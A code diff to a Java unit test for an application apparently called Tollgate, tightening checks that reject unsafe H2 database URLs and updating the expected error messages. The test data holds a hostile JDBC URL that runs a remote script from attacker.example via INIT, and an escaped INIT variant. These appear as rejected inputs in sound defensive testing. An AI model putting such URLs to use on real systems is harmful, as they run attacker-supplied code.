@@ -121,7 +121,7 @@ class ServeCommandTest {
   }
 
   @Test
-  void h2DatabaseUrl_config_acceptsFileAndMemoryOnly_andNoInitScript() {
+  void h2DatabaseUrl_config_acceptsFileAndMemoryOnly_andOnlyKnownSafeSettings() {
     assertThat(config("--data-dir", directory.toString(), "--database-url",
         "jdbc:h2:mem:tollgate;DB_CLOSE_DELAY=-1").database().jdbcUrl())
         .isEqualTo("jdbc:h2:mem:tollgate;DB_CLOSE_DELAY=-1");
@@ -130,7 +130,12 @@ class ServeCommandTest {
             + " jdbc:postgresql://HOST[:PORT]/DATABASE, jdbc:h2:file:PATH or jdbc:h2:mem:NAME");
     assertThatThrownBy(() -> config("--data-dir", directory.toString(), "--database-url",
         "jdbc:h2:mem:x;init=RUNSCRIPT FROM 'http://attacker.example/x.sql'"))
-        .hasMessageContaining("runs a script (INIT=)");
+        .hasMessageContaining("sets INIT, which Tollgate does not accept; the H2 settings"
+            + " Tollgate accepts are CACHE_SIZE, DB_CLOSE_DELAY,");
+    assertThatThrownBy(() -> config("--data-dir", directory.resolve("new").toString(),
+        "--database-url", "jdbc:h2:file:/tmp/x;\\INIT=CALL 1"))
+        .hasMessageContaining("sets INIT, which Tollgate does not accept");
+    assertThat(directory.resolve("new")).as("nothing written").doesNotExist();
   }
 
   @Test
